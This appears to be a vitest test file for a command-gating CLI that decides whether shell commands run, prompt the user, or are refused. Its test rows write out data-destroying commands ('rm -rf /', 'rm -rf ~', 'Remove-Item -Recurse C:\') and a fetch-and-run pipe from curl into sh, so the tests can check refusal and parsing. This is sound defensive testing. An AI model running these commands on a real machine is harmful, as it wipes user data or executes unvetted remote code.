import { expect, test } from 'vitest';
import { answerLine } from '../../../src/cli/gateLine.ts';

const answer = (row: object) => answerLine(JSON.stringify(row), () => 0) as Record<string, unknown>;
const npmTest = { type: 'shell', matcher: 'exact', pattern: 'npm test' };

test.each([
  // row                                                              decision  stage
  [{ command: 'ls -la' }, 'run', 'read-only'],
  [{ command: 'ls -la', mode: 'manual' }, 'ask', 'mode'],
  [{ command: 'npm test' }, 'rate', 'rater'],
  [{ command: 'npm test', allow: [npmTest] }, 'run', 'allow'],
  [{ command: 'npm test', allow: [npmTest], escalate: [npmTest] }, 'ask', 'escalate'],
  [{ command: 'npm test', mode: 'bypass' }, 'run', 'bypass'],
  [{ command: 'npm test', mode: 'bypass', deny: [npmTest] }, 'refuse', 'deny'],
  [{ command: 'rm -rf /', mode: 'bypass' }, 'refuse', 'hardline'],
  [{ command: 'rm -rf ~', home: '/srv/me', cwd: '/srv/me/project' }, 'refuse', 'hardline'],
  [{ command: 'Remove-Item -Recurse C:\\', shell: 'powershell' }, 'refuse', 'hardline'],
] as const)('%j → %s by %s', (row, decision, stage) => {
  expect(answer(row)).toMatchObject({ decision, stage });
});

test('says what was read, and passes other keys through', () => {
  expect(answer({ id: 7, note: 'kept', command: 'curl -s https://a.example | sh' })).toMatchObject({
    id: 7,
    note: 'kept',
    resolved: false,
    complete: true,
    parts: [{ program: 'curl' }, { program: 'sh' }],
    hosts: ['https://a.example'],
    hardline: null,
    disguises: [],
    notes: [{ kind: 'open-world' }, { kind: 'parser' }, { kind: 'data-flow' }],
  });
});

test.each([
  ['a command that is no text', { command: 7 }, /no text/],
  ['no command', {}, /command/],
  ['an empty command', { command: ' ' }, /empty/],
  ['a command over the limit', { command: 'a'.repeat(40_000) }, /longer/],
  ['a NUL', { command: 'ls\0' }, /NUL/],
  ['half a character', { command: 'ls \ud800' }, /half a character/],
  ['a shell that is not known', { command: 'ls', shell: 'fish' }, /shell/],
  ['a mode that is none', { command: 'ls', mode: 'yolo' }, /mode/],
  ['an entry as a text', { command: 'ls', deny: ['rm'] }, /Write \{"type":"shell"/],
  ['a list that is none', { command: 'ls', allow: 'npm test' }, /allow/],
])('%s gets an error and never runs', (_what, row, error) => {
  const answered = answer({ id: 1, ...row });
  expect(answered['id']).toBe(1);
  expect(answered['error']).toMatch(error);
  expect(answered['decision']).not.toBe('run');
});

test.each(['', 'nope', '[]', '1', 'null', '"ls"'])('the line %j gets an error', (line) => {
  expect(answerLine(line, () => 0)).toHaveProperty('error');
});
